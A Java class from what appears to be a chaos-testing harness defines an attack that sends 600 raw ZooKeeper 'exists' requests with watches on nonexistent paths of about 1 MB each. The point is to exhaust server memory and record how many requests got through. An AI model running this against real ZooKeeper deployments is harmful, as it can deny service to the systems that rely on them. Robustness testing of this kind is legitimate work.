package io.oarlock.chaos.hostile.client;

import io.oarlock.chaos.hostile.subject.Attack;
import io.oarlock.chaos.hostile.subject.RawClient;
import io.oarlock.chaos.hostile.subject.Subject;
import java.io.IOException;
import org.apache.zookeeper.ZooDefs.OpCode;

/** A watch on a znode that does not exist keeps its path. */
public final class WatchesOfLongPaths implements Attack {

    private static final int WATCHES = 600;
    private static final int PATH_LENGTH = 1_000_000;

    @Override
    public String name() {
        return "watches-of-long-paths";
    }

    @Override
    public String description() {
        return "600 watches on paths of 1 MB";
    }

    @Override
    public void launch(Subject subject) throws IOException {
        RawClient client = subject.client();
        int watches = 0;
        try {
            for (; watches < WATCHES; watches++) {
                String path = "/" + watches + "x".repeat(PATH_LENGTH);
                client.ask(OpCode.exists, RawClient.reading(path, true));
            }
        } finally {
            subject.fact("watches asked for", watches);
        }
    }
}
